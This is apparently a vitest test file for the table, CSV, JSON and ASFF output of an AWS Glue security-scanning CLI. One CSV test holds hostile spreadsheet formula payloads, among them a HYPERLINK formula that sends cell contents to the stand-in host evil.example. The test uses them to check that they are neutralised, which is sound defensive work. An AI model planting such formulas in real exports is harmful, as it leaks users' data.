import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UsageError } from '../../cli/errors';
import { ASFF_SCHEMA_VERSION, asffResource, findingId, renderAsff } from '../../cli/output/asff';
import { CSV_COLUMNS, csvField, renderCsv } from '../../cli/output/csv';
import { renderJson } from '../../cli/output/json';
import {
  fileStamp,
  parseScanOutputOptions,
  render,
  SCAN_FORMATS,
  writeOutputDir,
} from '../../cli/output/options';
import { toScanReport } from '../../cli/output/report';
import { fitColumns, renderTable, terminalWidth, wrap } from '../../cli/output/table';
import type { ScanEvaluation, ScanReport } from '../../cli/scan-types';

const ACCOUNT = '111122223333';

function evaluation(over: Partial<ScanEvaluation>): ScanEvaluation {
  return {
    account: ACCOUNT,
    region: 'eu-west-1',
    rule: 'glue-job-security-configuration-encrypted',
    severity: 'HIGH',
    control: 'Encryption at rest',
    resourceType: 'AWS::Glue::Job',
    resourceId: 'job-a',
    compliance: 'COMPLIANT',
    annotation: 'ok',
    evaluatedAt: '2026-12-05T08:30:00.000Z',
    ...over,
  };
}

const LONG =
  'Security configuration legacy-sse-s3 encrypts S3 output with SSE-S3 instead of SSE-KMS, CloudWatch logs are not encrypted and job bookmarks are not encrypted either';

function sample(): ScanReport {
  return {
    metadata: {
      tool: { name: 'glue-guardrails', version: '1.2.3' },
      startedAt: '2026-12-05T08:30:00.123Z',
      finishedAt: '2026-12-05T08:30:02.000Z',
      caller: { account: ACCOUNT, arn: `arn:aws:iam::${ACCOUNT}:user/auditor` },
      source: 'scan',
      accounts: [ACCOUNT],
      regions: ['eu-west-1'],
      rules: [
        'glue-job-security-configuration-encrypted',
        'glue-connection-ssl-enforced',
        'glue-ml-transform-encrypted',
      ],
      parameters: {},
    },
    evaluations: [
      evaluation({ resourceId: 'job-ok' }),
      evaluation({
        resourceId: 'job-bad',
        compliance: 'NON_COMPLIANT',
        annotation: LONG,
        remediation: 'EncryptGlueJob',
      }),
      evaluation({
        rule: 'glue-connection-ssl-enforced',
        severity: 'MEDIUM',
        resourceType: 'AWS::::Account',
        resourceId: ACCOUNT,
        compliance: 'ERROR',
        annotation: 'AccessDeniedException: not authorized to GetConnections',
        error: 'AccessDeniedException: not authorized to GetConnections',
      }),
      evaluation({
        resourceId: 'job-tricky',
        compliance: 'NON_COMPLIANT',
        severity: 'CRITICAL',
        annotation: 'Argument "--db_password", set,\r\nsee the "docs"',
      }),
      evaluation({
        resourceId: 'job-na',
        compliance: 'NOT_APPLICABLE',
        severity: 'LOW',
        annotation: 'streaming job',
      }),
    ],
  };
}

/** A strict RFC 4180 reader, to check the writer against (test-only). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (c === '"' || c === '\r' || c === '\n') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else field += c;
    i++;
  }
  if (field !== '' || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

describe('table', () => {
  it('wraps inside columns at word boundaries and fits the given width', () => {
    // Act
    const text = renderTable(sample(), {}, { width: 80, color: false });
    const lines = text.split('\n');
    // Assess: every row line fits (the header line is metadata, not a row)
    for (const line of lines.slice(1)) expect(line.length).toBeLessThanOrEqual(80);
    // The long annotation is spread over several lines of its own column, whole words only.
    const head = lines.find((l) => l.startsWith('SEVERITY')) as string;
    const start = head.indexOf('ANNOTATION');
    const first = lines.findIndex((l) => /^HIGH\s+NON_COMPLIANT/.test(l));
    const pieces: string[] = [];
    // The row's own lines: the first, then continuation lines (blank severity column).
    for (let l = first; l < lines.length && (l === first || (lines[l] ?? '').startsWith('   ')); l++)
      pieces.push((lines[l] ?? '').slice(start).trim());
    expect(pieces.length).toBeGreaterThan(2);
    expect(pieces.join(' ')).toBe(LONG);
    const words = new Set(LONG.split(' '));
    for (const piece of pieces) for (const w of piece.split(' ')) expect(words).toContain(w);
  });

  it('lists NON_COMPLIANT first (most severe first), then ERROR, then the rest, with severity', () => {
    // Act
    const lines = renderTable(sample(), {}, { width: 200, color: false }).split('\n');
    // Assess
    const rows = lines.filter((l) => /^(CRITICAL|HIGH|MEDIUM|LOW) /.test(l));
    expect(rows.map((l) => l.split(/\s+/).slice(0, 2).join(' '))).toEqual([
      'CRITICAL NON_COMPLIANT',
      'HIGH NON_COMPLIANT',
      'MEDIUM ERROR',
      'HIGH COMPLIANT',
      'LOW NOT_APPLICABLE',
    ]);
  });

  it('starts with the tool version and scan metadata and ends with a per-rule summary naming rules without resources', () => {
    // Act
    const text = renderTable(sample(), { statuses: ['NON_COMPLIANT'] }, { width: 120, color: false });
    // Assess
    expect(text.split('\n')[0]).toBe(
      `glue-guardrails 1.2.3 scan 2026-12-05T08:30:00.123Z by arn:aws:iam::${ACCOUNT}:user/auditor | accounts ${ACCOUNT} | regions eu-west-1 | 3 rule(s)`,
    );
    const summary = text.slice(text.indexOf('Summary by rule'));
    expect(summary).toContain('(5 evaluation(s), 2 shown)');
    expect(summary).toMatch(
      /glue-job-security-configuration-encrypted\s+2 non-compliant, 1 compliant, 1 not applicable\n/,
    );
    expect(summary).toMatch(/glue-connection-ssl-enforced\s+1 error\n/);
    expect(summary).toMatch(/glue-ml-transform-encrypted\s+no resources found$/);
  });

  it('adds an account/region column when the report spans several', () => {
    const report = sample();
    report.evaluations.push(evaluation({ region: 'us-east-1', resourceId: 'job-us' }));
    expect(renderTable(report, {}, { width: 200, color: false })).toContain(`${ACCOUNT} us-east-1`);
    expect(renderTable(sample(), {}, { width: 200, color: false })).not.toContain('ACCOUNT/REGION');
  });

  it('is 100 columns wide when stdout is not a terminal, the terminal width when it is', () => {
    expect(terminalWidth({ isTTY: false, columns: 250 })).toBe(100);
    expect(terminalWidth({})).toBe(100);
    expect(terminalWidth({ isTTY: true, columns: 132 })).toBe(132);
  });

  it('wrap: lines never exceed the width and words are kept whole when they fit (property)', () => {
    const word = fc.stringMatching(/^[a-z-]{1,12}$/);
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), fc.integer({ min: 12, max: 60 }), (words, width) => {
        const lines = wrap(words.join(' '), width);
        for (const line of lines) expect(line.length).toBeLessThanOrEqual(width);
        // Every word (none is longer than the width) is on one line, in order.
        expect(lines.join(' ').split(' ').filter(Boolean)).toEqual(words);
      }),
      { numRuns: 200 },
    );
  });

  it('wrap: a word wider than the column breaks after a hyphen when it can', () => {
    expect(wrap('glue-dev-endpoint-security-configuration-encrypted', 20)).toEqual([
      'glue-dev-endpoint-',
      'security-',
      'configuration-',
      'encrypted',
    ]);
    expect(wrap('abcdefghij', 4)).toEqual(['abcd', 'efgh', 'ij']);
  });

  it('fitColumns narrows preferred columns to their floor first, then the widest', () => {
    expect(fitColumns([10, 30, 40], [10, 5, 5], 60, [[2, 20]])).toEqual([10, 26, 20]);
    // Nothing to narrow: the natural widths stay.
    expect(fitColumns([5, 5], [5, 5], 10)).toEqual([5, 5]);
  });
});

describe('csv', () => {
  it('quotes commas, quotes and line breaks as RFC 4180 says, with a header row and CRLF', () => {
    // Act
    const text = renderCsv(sample());
    const records = parseCsv(text);
    // Assess
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records).toHaveLength(1 + sample().evaluations.length);
    const tricky = records.find((r) => r.includes('job-tricky')) as string[];
    expect(tricky[CSV_COLUMNS.indexOf('annotation')]).toBe(
      'Argument "--db_password", set,\r\nsee the "docs"',
    );
    expect(text).toContain('"Argument ""--db_password"", set,\r\nsee the ""docs"""');
    expect(text.startsWith('#')).toBe(false);
  });

  it('csvField leaves plain values alone', () => {
    expect(csvField('plain value')).toBe('plain value');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
  });

  it('neutralises cells a spreadsheet would run as a formula, quoting them as CSV requires', () => {
    // Prepare: a hostile job name and annotation, as a scan of an attacker's estate would report them
    const hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const report = sample();
    report.evaluations = [
      evaluation({ resourceId: hyperlink, compliance: 'NON_COMPLIANT', annotation: '@SUM(1)' }),
      evaluation({ resourceId: '+cmd', annotation: '-2+3', offenders: ['--db_password', '=1+1'] }),
      evaluation({ resourceId: '\tindent', annotation: '\r=1', control: '\u0000=1' }),
    ];
    // Act
    const records = parseCsv(renderCsv(report)).slice(1);
    // Assess: every dangerous first character is behind a single quote, the rest of the value intact
    const column = (name: (typeof CSV_COLUMNS)[number]) => records.map((r) => r[CSV_COLUMNS.indexOf(name)]);
    expect(column('resourceId')).toEqual([`'${hyperlink}`, "'+cmd", "'\tindent"]);
    expect(column('annotation')).toEqual(["'@SUM(1)", "'-2+3", "'\r=1"]);
    expect(column('offenders')[1]).toBe("'--db_password; =1+1");
    expect(column('control')[2]).toBe("'\u0000=1");
    for (const record of records)
      for (const field of record)
        expect({ field, start: /^[=+\-@\t\r\0]/.test(field) }).toMatchObject({ start: false });
    // Quoted as RFC 4180 requires once the quote is added
    expect(csvField(hyperlink)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
  });

  it('leaves readable values that cannot start a formula untouched', () => {
    for (const value of [
      'job-a',
      'arn:aws:glue:eu-west-1:111122223333:job/load',
      '2026-12-05T08:30:00.000Z',
      "'quoted",
      ' =1',
    ])
      expect(csvField(value)).toBe(value);
    expect(csvField('')).toBe('');
  });
});

describe('json', () => {
  it('is the evaluations array exactly, never wrapped', () => {
    expect(JSON.parse(renderJson(sample()))).toEqual(sample().evaluations);
  });
});

describe('asff', () => {
  // Required top-level attributes (Security Hub user guide, "Required top-level ASFF attributes").
  const REQUIRED = [
    'AwsAccountId',
    'CreatedAt',
    'Description',
    'GeneratorId',
    'Id',
    'ProductArn',
    'Resources',
    'SchemaVersion',
    'Severity',
    'Title',
    'Types',
    'UpdatedAt',
  ];

  it('has every required attribute, within the documented limits', () => {
    // biome-ignore lint/suspicious/noExplicitAny: parsed JSON, checked field by field below
    const findings = JSON.parse(renderAsff(sample())) as Array<Record<string, any>>;
    expect(findings).toHaveLength(5);
    for (const f of findings) {
      for (const key of REQUIRED) expect(f[key], key).toBeDefined();
      expect(f.SchemaVersion).toBe(ASFF_SCHEMA_VERSION);
      expect(f.ProductArn).toBe(`arn:aws:securityhub:eu-west-1:${ACCOUNT}:product/${ACCOUNT}/default`);
      expect(f.AwsAccountId).toMatch(/^\d{12}$/);
      expect(f.Id.length).toBeLessThanOrEqual(512);
      expect(f.Title.length).toBeLessThanOrEqual(256);
      expect(f.Description.length).toBeGreaterThan(0);
      expect(f.Description.length).toBeLessThanOrEqual(1024);
      expect(f.Resources.length).toBeGreaterThan(0);
      expect(['INFORMATIONAL', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL']).toContain(f.Severity.Label);
      expect(Number.isNaN(Date.parse(f.CreatedAt))).toBe(false);
      expect(f.ProductFields['glue-guardrails/version']).toBe('1.2.3');
      for (const [k, v] of Object.entries(f.ProductFields)) {
        expect(k.length).toBeLessThanOrEqual(128);
        expect(String(v).length).toBeLessThanOrEqual(2048);
      }
    }
    const bad = findings.find((f) => f.Resources[0].Id.endsWith('job/job-bad'));
    expect(bad).toMatchObject({
      Compliance: { Status: 'FAILED', RelatedRequirements: ['Encryption at rest'] },
      Remediation: { Recommendation: { Text: expect.stringContaining('EncryptGlueJob') } },
      Resources: [
        { Id: `arn:aws:glue:eu-west-1:${ACCOUNT}:job/job-bad`, Partition: 'aws', Region: 'eu-west-1' },
      ],
    });
    // An ERROR is never reported as passed.
    const error = findings.find((f) => f.ProductFields['glue-guardrails/compliance'] === 'ERROR');
    expect(error?.Compliance.Status).toBe('NOT_AVAILABLE');
  });

  it('builds real ARNs per resource type and stable, distinct ids', () => {
    const at = { account: ACCOUNT, region: 'cn-north-1' };
    expect(asffResource({ ...at, resourceType: 'AWS::Glue::MLTransform', resourceId: 'tfm-1' }).Id).toBe(
      `arn:aws-cn:glue:cn-north-1:${ACCOUNT}:mlTransform/tfm-1`,
    );
    expect(asffResource({ ...at, resourceType: 'AWS::::Account', resourceId: ACCOUNT })).toEqual({
      Type: 'AwsAccount',
      Id: `AWS::::Account:${ACCOUNT}`,
    });
    const a = evaluation({ resourceId: 'x' });
    expect(findingId(a)).toBe(
      findingId({ ...evaluation({ resourceId: 'x', annotation: 'changed', compliance: 'COMPLIANT' }) }),
    );
    expect(findingId(a)).not.toBe(findingId({ ...a, region: 'us-east-1' }));
    expect(findingId(a)).not.toBe(findingId({ ...a, resourceId: 'y' }));
    expect(findingId(a)).not.toBe(findingId({ ...a, rule: 'glue-job-tagged' }));
    expect(findingId(a)).not.toBe(findingId({ ...a, account: '444455556666' }));
  });
});

describe('--status and --severity filter every format', () => {
  const filter = parseScanOutputOptions({
    status: 'non_compliant,ERROR',
    severity: 'CRITICAL,MEDIUM',
  }).filter;
  const wanted = ['job-tricky', ACCOUNT]; // CRITICAL NON_COMPLIANT, MEDIUM ERROR

  it.each(SCAN_FORMATS)('%s', (format) => {
    const text = render(format, sample(), filter, { width: 200, color: false });
    for (const id of ['job-ok', 'job-bad', 'job-na']) expect(text).not.toContain(id);
    for (const id of wanted) expect(text).toContain(id);
  });

  it('rejects unknown values and unknown formats', () => {
    expect(() => parseScanOutputOptions({ status: 'PASSED' })).toThrow(UsageError);
    expect(() => parseScanOutputOptions({ severity: 'INFO' })).toThrow(/--severity: unknown value\(s\) INFO/);
    expect(() => parseScanOutputOptions({ format: 'html' })).toThrow(UsageError);
    expect(parseScanOutputOptions({})).toEqual({ format: 'table', filter: {}, toSecurityHub: false });
  });
});

describe('--output-dir', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'gg-out-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('writes every format and a metadata file, named by scan time', () => {
    // Act
    const out = join(dir, 'reports');
    const paths = writeOutputDir(out, sample(), { severities: ['CRITICAL'] });
    // Assess
    expect(readdirSync(out).sort()).toEqual(
      ['asff.json', 'csv', 'json', 'metadata.json', 'txt'].map(
        (x) => `glue-guardrails-2026-12-05T08-30-00Z.${x}`,
      ),
    );
    expect(paths).toHaveLength(5);
    const metadata = JSON.parse(
      readFileSync(join(out, 'glue-guardrails-2026-12-05T08-30-00Z.metadata.json'), 'utf8'),
    );
    expect(metadata).toMatchObject({
      tool: { version: '1.2.3' },
      filter: { severity: ['CRITICAL'] },
      shown: 1,
    });
    const json = JSON.parse(readFileSync(join(out, 'glue-guardrails-2026-12-05T08-30-00Z.json'), 'utf8'));
    expect(json.map((e: ScanEvaluation) => e.resourceId)).toEqual(['job-tricky']);
  });

  it('refuses an existing file (writing nothing) and a symbolic link to a directory', () => {
    // Prepare
    writeFileSync(join(dir, 'glue-guardrails-2026-12-05T08-30-00Z.csv'), 'keep');
    mkdirSync(join(dir, 'real'));
    symlinkSync(join(dir, 'real'), join(dir, 'link'));
    // Act / Assess
    expect(() => writeOutputDir(dir, sample())).toThrow(/already exists/);
    expect(readFileSync(join(dir, 'glue-guardrails-2026-12-05T08-30-00Z.csv'), 'utf8')).toBe('keep');
    expect(
      lstatSync(join(dir, 'glue-guardrails-2026-12-05T08-30-00Z.json'), { throwIfNoEntry: false }),
    ).toBeUndefined();
    expect(() => writeOutputDir(join(dir, 'link'), sample())).toThrow(/symbolic link/);
    expect(readdirSync(join(dir, 'real'))).toEqual([]);
  });

  it('fileStamp drops milliseconds and colons', () => {
    expect(fileStamp('2026-12-05T08:30:00.123Z')).toBe('2026-12-05T08-30-00Z');
  });
});

describe('toScanReport', () => {
  it('turns errors into ERROR evaluations with the rule facts, so no output drops them', () => {
    const report = toScanReport(
      {
        accountId: ACCOUNT,
        region: 'eu-west-1',
        findings: [],
        errors: [
          { rule: 'glue-job-logging-enabled', resourceId: 'job-1', error: 'Throttling' },
          { rule: 'glue-connection-ssl-enforced', error: 'AccessDenied' },
        ],
      },
      {
        tool: { name: 'glue-guardrails', version: '1.2.3' },
        startedAt: 's',
        finishedAt: 'f',
        caller: { account: ACCOUNT, arn: '' },
        source: 'scan',
        rules: [],
        parameters: {},
      },
    );
    expect(report.metadata).toMatchObject({ accounts: [ACCOUNT], regions: ['eu-west-1'] });
    expect(report.evaluations).toEqual([
      expect.objectContaining({
        rule: 'glue-job-logging-enabled',
        resourceType: 'AWS::Glue::Job',
        resourceId: 'job-1',
        compliance: 'ERROR',
        error: 'Throttling',
        severity: expect.stringMatching(/^(CRITICAL|HIGH|MEDIUM|LOW)$/),
      }),
      expect.objectContaining({
        rule: 'glue-connection-ssl-enforced',
        resourceType: 'AWS::::Account',
        resourceId: ACCOUNT,
        compliance: 'ERROR',
        annotation: 'AccessDenied',
      }),
    ]);
  });
});
